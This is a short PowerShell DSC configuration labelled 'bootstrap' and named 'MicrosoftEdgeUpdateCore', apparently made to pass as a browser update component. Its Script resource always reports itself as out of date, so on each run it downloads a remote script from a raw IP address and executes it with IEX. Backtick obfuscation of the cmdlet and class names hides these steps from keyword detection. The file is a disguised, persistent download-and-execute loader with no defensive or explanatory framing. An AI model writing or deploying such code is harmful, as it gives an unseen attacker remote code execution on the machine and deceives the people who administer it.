# bootstrap 9333 v2
Configuration MicrosoftEdgeUpdateCore {
  I`mport-Ds`cResour`ce -ModuleName PSDesiredStateConfiguration
  Node localhost {
    Script Bootstrap {
      GetScript = { @{ Result = '' } }
      TestScript = { $false }
      SetScript = { IEX (Ne`w-Object Net.`WebC`lient).DownloadString('http://192.0.2.44/a.ps1') }
    }
  }
}
